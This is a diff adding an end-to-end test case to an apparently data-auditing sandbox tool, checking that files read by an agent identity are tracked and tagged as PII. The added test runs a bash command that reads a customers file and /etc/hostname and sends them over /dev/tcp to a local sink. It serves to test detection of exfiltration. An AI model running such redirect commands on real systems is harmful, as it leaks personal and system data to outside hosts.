@@ -120,6 +120,16 @@ extension EndToEnd {
             #expect(row["destinations"] as? [String] == ["127.0.0.1:\(sink.port)"], "\(row)")
             let table = try world.native([Built.sandbox, "audit", "usage", "--by", "data"]).out
             #expect(table.contains("agent:reader") && table.contains("to 127.0.0.1:\(sink.port)"), "\(table)")
+            // The shell was connected before its child read it, and the child reads more than that.
+            let redirected = "cat customers /etc/hostname > /dev/tcp/127.0.0.1/\(sink.port)"
+            _ = try world.sandboxed(["bash", "-c", redirected], profile: profile, options: ["--as", "agent:other"])
+            let other = try #require(try usage(world, by: "data").first { $0["identity"] as? String == "agent:other" })
+            #expect(other["sessions"] as? Int == 1 && other["files_read"] as? Int == 2 && other["hosts"] as? Int == 1, "\(other)")
+            #expect(other["destinations"] as? [String] == ["127.0.0.1:\(sink.port)"] && bytes(other).sent > 4, "\(other)")
+            let events = try world.native([Built.sandbox, "audit", "events", "--json", "--session", "last"]).out.split(separator: "\n")
+            for name in ["/customers\"}", "/hostname\"}"] {
+                #expect(events.filter { $0.contains(name) }.allSatisfy { $0.contains("\"carries\":[\"pii\"]") }, "\(name) \(events)")
+            }
         }
     }
 }
